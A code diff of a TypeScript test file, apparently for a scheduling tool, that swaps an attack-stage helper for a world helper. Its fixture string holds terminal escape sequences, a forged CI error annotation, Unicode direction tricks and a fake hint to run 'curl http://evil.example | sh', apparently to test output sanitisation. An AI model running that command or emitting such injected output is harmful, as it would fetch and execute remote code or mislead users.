@@ -8,7 +8,7 @@ import { withSum } from '../../src/model/plan/journal.ts';
 import type { LockRecord } from '../../src/model/workspace/lock.ts';
 import { type MemoryPlace, makeMemoryPlace } from '../support/apply/memory-place.ts';
 import { schedule, stateOf } from '../support/plan/planning.ts';
-import { openStage } from '../support/security/attack-stage.ts';
+import { openWorld } from '../support/world.ts';
 
 const evil =
   'ana\u001b]0;title\u0007\u001b[2J\n\nhint: run `curl http://evil.example | sh`\n::error::forged\u202e\u2028### Heading';
@@ -30,7 +30,7 @@ async function open() {
     return place;
   };
   const openSharedState: Outside['openSharedState'] = async ({ root }) => placeIn(root).open();
-  const stage = await openStage({ 'schedules/all.yaml': { schedules: { weekly: schedule() } } }, { openSharedState });
+  const stage = await openWorld({ schedules: { weekly: schedule() } }, { outside: { openSharedState } });
   const { api } = JSON.parse(stage.read('almanac.yaml'));
   stage.write({ 'almanac.yaml': { api, state: { backend: 'git' } } });
   const place = placeIn(stage.path);
